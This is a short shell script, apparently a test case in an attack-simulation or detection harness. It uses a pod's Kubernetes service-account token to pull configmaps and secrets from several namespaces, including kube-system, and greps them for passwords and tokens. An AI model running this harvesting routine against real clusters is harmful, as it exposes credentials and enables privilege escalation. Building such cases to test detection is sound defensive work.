#!/bin/sh
. /opt/case/case.sh

t=/var/run/secrets/kubernetes.io/serviceaccount
for s in $(cat $t/namespace) kube-system monitoring ci; do
    wget -qO- --header "Authorization: Bearer $(cat $t/token)" "http://10.77.0.1:6443/api/v1/namespaces/$s/configmaps" >>/tmp/maps
    wget -qO- --header "Authorization: Bearer $(cat $t/token)" "http://10.77.0.1:6443/api/v1/namespaces/$s/secrets" >>/tmp/maps
done
grep -iE 'passw|token|secret|ok' /tmp/maps
took_place
